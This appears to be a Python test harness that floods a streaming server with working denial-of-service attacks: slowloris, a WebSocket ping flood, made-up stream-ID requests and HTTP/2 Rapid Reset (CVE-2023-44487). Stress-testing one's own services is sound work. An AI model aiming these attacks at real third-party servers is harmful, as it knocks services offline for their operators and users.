"""The attacks: attacks.py NAME HOST PORT ADDRESS... Each attacker comes from one of the addresses.

Prints `ready` at full strength, goes on until a line comes in, then prints what it did.
"""

import asyncio
import base64
import itertools
import os
import resource
import struct
import sys
from functools import partial

tally: dict[str, int] = {}
# A wait with a timeout may swallow that its task is cancelled: so each attack looks here, too.
is_over = False


def note(what: str, count: int = 1) -> None:
    tally[what] = tally.get(what, 0) + count


async def again_and_again(attack, connect) -> None:
    """One attacker: comes back each time it is thrown out."""
    while not is_over:
        try:
            await attack(connect)
        except (OSError, asyncio.IncompleteReadError):
            pass
        note("thrown out")
        await asyncio.sleep(0.1)


async def slowloris(connect) -> None:
    """A request's head, a byte every second."""
    reader, writer = await connect()
    note("connections")
    ready.count()
    try:
        head = b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 10_000
        for byte in head:
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(1)
            if reader.at_eof():
                break
    finally:
        writer.close()


def frame(payload: bytes, opcode: int) -> bytes:
    mask = os.urandom(4)
    return bytes([0x80 | opcode, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


PINGS = frame(b"are you there?", 0x9) * 200


async def pings(connect) -> None:
    """A viewer that does nothing but ping, as fast as it can."""
    reader, writer = await connect()
    try:
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            f"GET /ws/pinged HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n".encode()
        )
        await reader.readuntil(b"\r\n\r\n")
        ready.count()
        note("sockets")
        while not is_over and not reader.at_eof():
            writer.write(PINGS)
            note("pings", 200)
            await writer.drain()
            await asyncio.sleep(0)
            # Answers are taken, so that it is not the socket that stops the flood.
            try:
                await asyncio.wait_for(reader.read(65536), 0.05)
            except TimeoutError:
                pass
    finally:
        writer.close()


WEBP = b"RIFF\x1e\0\0\0WEBPVP8 \x12\0\0\0\x10\x02\x00\x9d\x01\x2a\x40\x00\x30\x00" + bytes(8)
next_id = 0


async def ids(connect) -> None:
    """Posts, snapshots and viewers of streams that nobody has heard of, 100,000 names at least."""
    global next_id
    reader, writer = await connect()
    ready.count()
    try:
        while not is_over:
            next_id += 1
            name = f"made-up-{next_id}-{os.getpid()}"
            if next_id % 2:
                request = f"POST /ingest/{name} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(WEBP)}\r\n\r\n".encode() + WEBP
            else:
                request = f"GET /snapshot/{name} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
            writer.write(request)
            head = await reader.readuntil(b"\r\n\r\n")
            note(f"status {head[9:12].decode()}")
            length = next(int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
            await reader.readexactly(length)
            if b"connection: close" in head.lower():
                return
    finally:
        writer.close()


def h2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# :method GET, :scheme http, :path /health by a literal, :authority x (RFC 7541, appendix A and section 6.2.2).
REQUEST = b"\x82\x86\x04\x07/health\x01\x01x"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4


async def resets(connect) -> None:
    """HTTP/2 streams that are opened and reset at once (CVE-2023-44487)."""
    reader, writer = await connect()
    ready.count()
    note("connections")
    try:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(SETTINGS, 0, 0))
        stream = 1
        while not is_over and not reader.at_eof() and stream < 1 << 30:
            burst = b""
            for _ in range(100):
                burst += h2_frame(HEADERS, 5, stream, REQUEST) + h2_frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                stream += 2
            writer.write(burst)
            note("resets", 100)
            await writer.drain()
            try:
                await asyncio.wait_for(reader.read(65536), 0.01)
            except TimeoutError:
                pass
    finally:
        writer.close()


class Ready:
    """Says so once as many attackers as wanted are at work."""

    def __init__(self, wanted: int) -> None:
        self.missing = wanted

    def count(self) -> None:
        self.missing -= 1
        if self.missing == 0:
            print("ready", flush=True)


ATTACKS = {"slowloris": (slowloris, 2_000), "pings": (pings, 20), "ids": (ids, 8), "resets": (resets, 20)}
name, host, port, *addresses = sys.argv[1:]
attack, count = ATTACKS[name]
ready = Ready(count)


async def main() -> None:
    # Attackers have machines of their own: on this one they get what broker and viewers leave. A low priority alone would not do: what
    # runs is left its slice of some milliseconds.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    attackers = [
        asyncio.create_task(again_and_again(attack, partial(asyncio.open_connection, host, int(port), local_addr=(address, 0))))
        for address in itertools.islice(itertools.cycle(addresses), count)
    ]
    # Also when whoever started this is gone.
    word = await asyncio.to_thread(sys.stdin.readline)
    if attack is ids:
        while word and next_id < 100_000:
            await asyncio.sleep(0.1)
    global is_over
    is_over = True
    for attacker in attackers:
        attacker.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)
    print(", ".join(f"{name} {number}" for name, number in tally.items()), flush=True)


asyncio.run(main())
